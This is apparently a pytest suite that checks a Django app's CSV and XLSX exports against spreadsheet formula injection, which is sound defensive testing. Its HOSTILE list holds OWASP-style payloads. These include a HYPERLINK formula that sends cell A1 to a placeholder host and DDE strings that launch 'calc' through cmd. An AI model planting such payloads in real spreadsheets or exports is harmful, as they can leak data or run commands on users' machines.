"""Formula injection (issue 11, finding 4): every CSV/XLSX export writes a text that starts like a formula as
text — behind an apostrophe in CSV, as a string cell in XLSX — and numbers as numbers. Each export is read back
with a hostile value typed where a person can type it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from pilotage.core.exports import Column, export_response
from pilotage.core.roles import Role
from pilotage.reference.models import MissionLocale
from tests.core.exporting import body, read_machine_csv, read_people_csv
from tests.factories import MissionLocaleFactory, user_for_role

pytestmark = pytest.mark.django_db

#: payloads of the probe and of the OWASP « CSV injection » page; each must come out as text
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(response) -> list[list]:
    """Cells as (value, data_type): a formula would be data_type "f"."""
    sheet = load_workbook(io.BytesIO(body(response))).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def assert_text_cells(csv_rows, xlsx_rows, values):
    """Each hostile value is in the CSV behind an apostrophe and in the XLSX as the same text in a string cell."""
    csv_cells = {cell for row in csv_rows for cell in row}
    xlsx_cells = {cell for row in xlsx_rows for cell in row}
    for value in values:
        assert "'" + value in csv_cells, value
        assert value not in csv_cells, value
        assert (value, "s") in xlsx_cells, value
    assert not any(data_type == "f" for _, data_type in xlsx_cells)


def both_forms(client, url, params=None):
    """(CSV rows, XLSX cells) of an export for people and for machines, formulas checked in each."""
    params = params or {}
    for form, reader in (({}, read_people_csv), ({"format": "technique"}, read_machine_csv)):
        yield (
            reader(client.get(url.replace(".xlsx", ".csv"), {**params, **form})),
            read_xlsx(client.get(url, {**params, **form})),
        )


def _export(rows, fmt, form=None):
    """`rows` through `export_response`, one raw column a value (no kind: numbers stay numbers, texts texts)."""
    columns = [Column(f"c{i}", f"Colonne {i}", lambda row, i=i: row[i]) for i in range(len(rows[0]))]
    request = RequestFactory().get("/", {"format": form} if form else {})
    return export_response(request, columns=columns, items=rows, filename="x", fmt=fmt, title="x")


def test_the_one_place_neutralises_every_formula_start_and_keeps_numbers():
    rows = [[value, Decimal("-1234.50"), -7, 2.5, "-12", "+3,5", "1e-05", "texte", None] for value in HOSTILE]
    for form, reader, numbers in ((None, read_people_csv, ["-1234,50", "-7", "2,5"]),
                                  ("technique", read_machine_csv, ["-1234.50", "-7", "2.5"])):  # fmt: skip
        csv_rows = reader(_export(rows, "csv", form))
        assert [row[0] for row in csv_rows[1:]] == ["'" + value for value in HOSTILE]
        assert csv_rows[1][1:] == [*numbers, "-12", "+3,5", "1e-05", "texte", ""]
        xlsx_rows = read_xlsx(_export(rows, "xlsx", form))
        assert [row[0] for row in xlsx_rows[1:]] == [(value, "s") for value in HOSTILE]
        assert xlsx_rows[1][1:4] == [(-1234.5, "n"), (-7, "n"), (2.5, "n")]
        assert xlsx_rows[1][4:8] == [("-12", "s"), ("+3,5", "s"), ("1e-05", "s"), ("texte", "s")]


def test_xlsx_keeps_error_codes_as_text_and_survives_control_characters():
    rows = [["#N/A", "#DIV/0!", "nul\x00ici", "bip\x07"]]
    for form in (None, "technique"):
        xlsx_rows = read_xlsx(_export(rows, "xlsx", form))
        assert xlsx_rows[1] == [("#N/A", "s"), ("#DIV/0!", "s"), ("nul\ufffdici", "s"), ("bip\ufffd", "s")]


def test_no_export_bypasses_the_one_place():
    """Only core/exports.py writes CSV or XLSX (the indicators engine's CSV goes through `csv_cell`)."""
    root = Path(__file__).resolve().parents[2] / "pilotage"
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|text/csv|xlsxwriter|\.to_excel\(|\.to_csv\(")
    found = {
        str(path.relative_to(root)) for path in root.rglob("*.py") if writers.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"core/exports.py", "indicators/engine/compute.py"}
    engine = (root / "indicators/engine/compute.py").read_text(encoding="utf-8")
    assert "from pilotage.core.exports import csv_cell" in engine and "_csv_field(csv_cell(" in engine


def test_mission_locale_export(client):
    ml = MissionLocaleFactory(name=HOSTILE[0], usual_name=HOSTILE[2], city=HOSTILE[4], president=HOSTILE[5],
                              director=HOSTILE[7], phone="+33 4 91 00 00 00", address="-2+3")  # fmt: skip
    client.force_login(user_for_role(Role.NATIONAL_ADMIN))
    for csv_rows, xlsx_rows in both_forms(client, reverse("reference:mission_locale_export", args=["xlsx"])):
        assert_text_cells(csv_rows, xlsx_rows, [HOSTILE[0], HOSTILE[2], HOSTILE[4], HOSTILE[5], HOSTILE[7],
                                                "+33 4 91 00 00 00", "-2+3"])  # fmt: skip
        assert ml.code in csv_rows[1]


def test_mission_locale_export_then_import_keeps_hostile_values(client):
    """The importer reads back the technical CSV: an apostrophe before a formula start is the export's, removed."""
    from pilotage.reference.imports import reference_import

    MissionLocaleFactory(code="13201S00", department_id="13", name=HOSTILE[0], city="+cmd", phone="+33 4 91 00 00 00")
    client.force_login(user_for_role(Role.NATIONAL_ADMIN))
    exported = client.get(reverse("reference:mission_locale_export", args=["csv"]), {"format": "technique"}).content
    report = reference_import(
        kind="missions_locales",
        path_or_file=io.BytesIO(exported),
        wet_run=True,
        filename="missions_locales.csv",
        acting_user=user_for_role(Role.NATIONAL_ADMIN),
    )
    assert report.saved and report.updated == 0 and report.created == 0, [str(i) for i in report.issues]
    ml = MissionLocale.objects.get()
    assert (ml.name, ml.city, ml.phone) == (HOSTILE[0], "+cmd", "+33 4 91 00 00 00")


def test_funding_line_export(client):
    from pilotage.funding.models import FundingLine

    ml = MissionLocaleFactory()
    FundingLine.objects.create(mission_locale=ml, year=2024, funder_type="autre", category="autre",
                               theme="=1+1", amount=Decimal("1000"))  # fmt: skip
    client.force_login(user_for_role(Role.NATIONAL_ADMIN))
    for csv_rows, xlsx_rows in both_forms(client, reverse("funding:line_export", args=["xlsx"])):
        assert_text_cells(csv_rows, xlsx_rows, ["=1+1"])
        assert xlsx_rows[1][-1] == (1000, "n")


def test_survey_free_text_export(client):
    from tests.surveys.factories import make_survey, submitted

    admin = user_for_role(Role.NATIONAL_ADMIN)
    survey = make_survey(admin)
    mls = [MissionLocaleFactory() for _ in range(2)]
    submitted(survey, mls, [{"convention": "non", "commentaire": HOSTILE[3]}, {"commentaire": HOSTILE[10]}])
    client.force_login(admin)
    for csv_rows, xlsx_rows in both_forms(client, reverse("surveys:results_export", args=[survey.pk, "xlsx"])):
        assert_text_cells(csv_rows, xlsx_rows, [HOSTILE[3], HOSTILE[10]])


def test_dialogue_campaign_export(client):
    from pilotage.dialogue.services import campaign_open

    ml = MissionLocaleFactory(name="@SUM(1+1)", usual_name="")
    admin = user_for_role(Role.NATIONAL_ADMIN)
    campaign = campaign_open(region=ml.department.region, year=2024, acting_user=admin)
    client.force_login(admin)
    for csv_rows, xlsx_rows in both_forms(client, reverse("dialogue:campaign_export", args=[campaign.pk, "xlsx"])):
        assert_text_cells(csv_rows, xlsx_rows, [ml.display_name])


def test_indicators_engine_csv(tmp_path):
    from pilotage.indicators.engine.compute import write_csv

    write_csv([("ml", "=1+1", 2024, "jeunes", "", Decimal("-3"))], tmp_path / "out.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    assert rows[1] == ["ml", "'=1+1", "2024", "jeunes", "", "-3"]
